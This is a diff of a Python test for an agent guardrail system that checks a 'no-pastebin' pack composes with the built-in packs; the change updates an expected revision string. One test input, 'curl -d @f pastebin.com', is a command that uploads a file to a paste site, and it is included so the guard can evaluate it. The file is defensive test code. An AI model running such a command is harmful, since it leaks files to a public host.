@@ -71,7 +71,7 @@ def test_a_third_party_pack_composes_with_the_builtin_packs() -> None:
     catalogue = pack_catalogue(host.guardrail_packs())
     compiled = compile_guardrail_packs(["no-pastebin", "secrets-hygiene"], catalogue=catalogue)
     guard = compiled.tool_input[0]
-    assert (guard.name, guard.revision) == ("pack:no-pastebin/no-paste-upload", "2")
+    assert (guard.name, guard.revision) == ("pack:no-pastebin/no-paste-upload", "no-pastebin@2")
     decision = guard.evaluate(call_context("shell", {"command": "curl -d @f pastebin.com"}))
     record = GuardrailRecord(
         guard.name, "tool_input", decision.action, decision.reason, decision.metadata
